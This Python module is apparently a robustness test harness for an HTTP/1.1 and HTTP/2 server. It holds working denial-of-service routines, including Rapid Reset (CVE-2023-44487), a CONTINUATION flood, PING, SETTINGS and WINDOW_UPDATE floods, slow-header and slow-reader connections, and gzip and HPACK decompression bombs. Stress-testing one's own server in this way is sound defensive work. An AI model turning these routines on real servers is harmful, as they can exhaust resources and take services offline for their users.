"""The attacks. Each gets the port, the time to stop at and its size, and gives what it sent."""

from __future__ import annotations

import contextlib
import select
import socket
import time
import uuid
import zlib

from wire import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    METHOD,
    PING,
    PREFACE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    connect,
    frame,
    head,
    hurl,
    integer,
    literal,
    message,
    post,
    settings,
)

START = PREFACE + settings()


def rapid_reset(port: int, until: float, size: int) -> str:
    """Opens streams and takes them back at once (CVE-2023-44487)."""
    sent = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(port, 0.5) as connection:
            connection.sendall(START)
            stream = 1
            while time.monotonic() < until:
                batch = b""
                for _ in range(50):
                    batch += frame(HEADERS, END_HEADERS, stream, head())
                    batch += frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
                    stream += 2
                connection.sendall(batch)
                sent += 50
    return f"{sent} streams"


def continuation_flood(port: int, until: float, size: int) -> str:
    """A header block that never ends (CVE-2024-28182)."""
    start = START + frame(HEADERS, END_STREAM, 1, head())
    chunk = frame(CONTINUATION, 0, 1, literal(b"a", b"b") * 8) * 32
    return f"{32 * hurl(port, start, chunk, until)} frames"


def ping_flood(port: int, until: float, size: int) -> str:
    """PINGs whose answers nobody reads."""
    return f"{500 * hurl(port, START, frame(PING, 0, 0, bytes(8)) * 500, until)} frames"


def ping_flood_read(port: int, until: float, size: int) -> str:
    """PINGs whose answers are read."""
    return f"{50 * hurl(port, START, frame(PING, 0, 0, bytes(8)) * 50, until, reads=True)} frames"


def settings_flood(port: int, until: float, size: int) -> str:
    """SETTINGS, each of which asks for an answer."""
    return f"{200 * hurl(port, START, settings((INITIAL_WINDOW_SIZE, 1000)) * 200, until)} frames"


def empty_data(port: int, until: float, size: int) -> str:
    """DATA frames without data, on a request that never ends."""
    start = START + frame(HEADERS, END_HEADERS, 1, head())
    return f"{1000 * hurl(port, start, frame(DATA, 0, 1) * 1000, until)} frames"


def unknown_frames(port: int, until: float, size: int) -> str:
    """Frames of a type that nobody knows."""
    return f"{500 * hurl(port, START, frame(0x42, 0, 0, bytes(16)) * 500, until)} frames"


def slow_headers(port: int, until: float, size: int) -> str:
    """Connections that send their header a byte at a time, half of them by HTTP/2."""
    starts = [b"POST / HTTP/1.1\r\nHost: x\r\nX: ", START + frame(HEADERS, 0, 1, head())]
    drips = [b"a", frame(CONTINUATION, 0, 1, b"")]
    connections: list[tuple[socket.socket, int]] = []
    turn = 0
    while time.monotonic() < until:
        while len(connections) < size and time.monotonic() < until:
            try:
                connection = connect(port)
                connection.sendall(starts[len(connections) % 2])
                connection.setblocking(False)
                connections.append((connection, len(connections) % 2))
            except OSError:
                break
            if len(connections) % 500 == 0:
                break
        # A part of them at a time, so that each sends a byte every second or so.
        for connection, kind in connections[turn % 20 :: 20]:
            with contextlib.suppress(OSError):
                connection.send(drips[kind])
        turn += 1
        time.sleep(0.05)
    count = len(connections)
    for connection, _ in connections:
        connection.close()
    return f"{count} connections"


def gzip_bomb(port: int, until: float, size: int) -> str:
    """A body of `size` kB that unfolds to as many MiB, over and over."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = deflate.compress(bytes(1 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)
    packed = b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + block * size
    bomb = post(packed, fields="Content-Encoding: gzip\r\n")
    answers = 0
    with connect(port, 20) as connection:
        while time.monotonic() < until:
            connection.sendall(bomb)
            assert connection.recv(1 << 16).startswith(b"HTTP/1.1 429"), "the bomb was not refused"
            answers += 1
    return f"{answers} of {len(packed) >> 10} KiB for {size} MiB"


def huge_headers(port: int, until: float, size: int) -> str:
    """Header values of a megabyte, by HTTP/1.1 and by HTTP/2 in pieces of a frame's size."""
    sent = 0
    value = b"v" * (1 << 20)
    pieces = [value[i : i + 16_000] for i in range(0, len(value), 16_000)]
    block = START + frame(HEADERS, 0, 1, head() + b"\0\1x" + integer(len(value), 7))
    for index, piece in enumerate(pieces):
        block += frame(CONTINUATION, END_HEADERS if index == len(pieces) - 1 else 0, 1, piece)
    while time.monotonic() < until:
        for bytes_ in (b"GET / HTTP/1.1\r\nHost: x\r\nX: " + value, block):
            with contextlib.suppress(OSError), connect(port, 0.5) as connection:
                connection.sendall(bytes_)
                connection.recv(1 << 16)
            sent += 1
    return f"{sent} headers"


def hpack_bomb(port: int, until: float, size: int) -> str:
    """One entry of HPACK's table of 3.9 kB, named 4,000 times in each request."""
    first = literal(b"bomb", b"x" * 3900, indexed=True)
    again = integer(62, 7, 0x80)
    sent = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(port, 0.5) as connection:
            connection.sendall(START)
            stream = 1
            while time.monotonic() < until:
                block = head() + (first if stream == 1 else b"") + again * 4000
                connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, block))
                stream += 2
                sent += 1
    return f"{sent} requests"


def unknown_methods(port: int, until: float, size: int) -> str:
    """Calls of methods that don't exist, each of another name, with fields of other names."""
    sent = 0
    with connect(port) as connection:
        while time.monotonic() < until:
            batch = b""
            for _ in range(20):
                name = uuid.uuid4().hex
                batch += post(b"{}", f"/x.{name}/{name}?{name}", f"X-{name}: 1\r\nX-Request-Id: {name}\r\n")
            connection.sendall(batch)
            answers = b""
            while answers.count(b"HTTP/1.1 404") < 20:
                answers += connection.recv(1 << 16)
            sent += 20
    return f"{sent} methods"


def half_open(port: int, until: float, size: int) -> str:
    """Connections whose client vanishes without a word, some with a request in flight."""
    repair = 19  # TCP_REPAIR: closing such a socket sends nothing; needs CAP_NET_ADMIN.
    lost = 0
    while time.monotonic() < until and lost < size:
        connection = connect(port)
        kind = lost % 3
        connection.sendall([b"", b"POST ", START + frame(HEADERS, END_HEADERS, 1, head())][kind])
        connection.setsockopt(socket.IPPROTO_TCP, repair, 1)
        connection.close()
        lost += 1
    return f"{lost} connections"


def slow_readers(port: int, until: float, size: int) -> str:
    """Clients that ask for the largest answer again and again and take next to nothing of it."""
    request = b"GET /schema.binpb HTTP/1.1\r\nHost: x\r\n\r\n"
    streams = b"".join(
        frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/schema.binpb", "GET")) for stream in range(1, 400, 2)
    )
    starts = [request * 200, PREFACE + settings((INITIAL_WINDOW_SIZE, 0)) + streams]
    connections = []
    for index in range(size):
        with contextlib.suppress(OSError):
            connection = connect(port, receive_buffer=4096)
            connections.append(connection)
            connection.setblocking(False)
            connection.send(starts[index % 2])
    while time.monotonic() < until:
        readable, _, _ = select.select(connections, [], [], 0.1) if len(connections) < 1000 else ([], [], [])
        for connection in readable:
            with contextlib.suppress(OSError):
                connection.recv(1)
        time.sleep(0.1)
    for connection in connections:
        connection.close()
    return f"{len(connections)} connections"


def window_games(port: int, until: float, size: int) -> str:
    """Takes answers a byte at a time, shrinks windows in flight, and overflows them."""
    one = (1).to_bytes(4, "big")
    sent = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), connect(port, 0.5) as connection:
            connection.sendall(PREFACE + settings((INITIAL_WINDOW_SIZE, 0)))
            for stream in range(1, 100, 2):
                connection.sendall(frame(HEADERS, END_HEADERS | END_STREAM, stream, head("/schema.binpb", "GET")))
            for turn in range(400):
                drip = b"".join(frame(WINDOW_UPDATE, 0, stream, one) for stream in range(1, 100, 2))
                connection.sendall(drip + settings((INITIAL_WINDOW_SIZE, turn % 2)))
                sent += 51
                connection.recv(1 << 16)
            connection.sendall(frame(WINDOW_UPDATE, 0, 0, (2**31 - 1).to_bytes(4, "big")) * 2)
            connection.recv(1 << 16)
    return f"{sent} frames"


def window_flood(port: int, until: float, size: int) -> str:
    """WINDOW_UPDATEs that nobody needs."""
    one = (1).to_bytes(4, "big")
    return f"{500 * hurl(port, START, frame(WINDOW_UPDATE, 0, 0, one) * 500, until)} frames"


def held_bodies(port: int, until: float, size: int) -> str:
    """Uploads that stop before their last byte, on as many streams as there may be."""
    connections = []
    body = bytes(16_000)
    sent = 0
    for _ in range(size):
        with contextlib.suppress(OSError):
            connection = connect(port, 0.3)
            connections.append(connection)
            connection.sendall(START)
            for stream in range(1, 500, 2):
                connection.sendall(frame(HEADERS, END_HEADERS, stream, head()))
                for _ in range(60):
                    connection.sendall(frame(DATA, 0, stream, body))
                    sent += len(body)
        if time.monotonic() > until:
            break
    time.sleep(max(0, until - time.monotonic()))
    for connection in connections:
        connection.close()
    return f"{sent >> 20} MiB"


def settings_ack_flood(port: int, until: float, size: int) -> str:
    """Acknowledgements of nothing."""
    return f"{500 * hurl(port, START, frame(SETTINGS, ACK) * 500, until)} frames"


def expensive_moods(port: int, until: float, size: int) -> str:
    """Moods of the greatest length, each another one, as fast as one connection takes them."""
    sent = 0
    with connect(port, 20) as connection:
        while time.monotonic() < until:
            mood = (uuid.uuid4().hex + " sad and glad ") * 60
            connection.sendall(post(message(mood[:2000]), METHOD))
            connection.recv(1 << 16)
            sent += 1
    return f"{sent} calls"
